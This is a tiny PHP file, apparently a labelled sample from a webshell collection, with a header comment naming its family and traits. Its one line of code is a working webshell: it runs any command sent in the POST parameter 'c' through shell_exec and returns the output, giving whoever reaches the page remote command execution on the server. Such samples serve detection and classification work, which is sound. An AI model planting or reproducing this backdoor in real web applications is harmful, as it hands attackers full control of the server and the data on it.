<?php
/* Family: webshell/exec-request
   Style: shell_exec with output escaping
   Trait: POST command run through shell_exec, stderr merged */
if (isset($_POST['c'])) { echo htmlspecialchars(shell_exec($_POST['c'] . ' 2>&1')); }
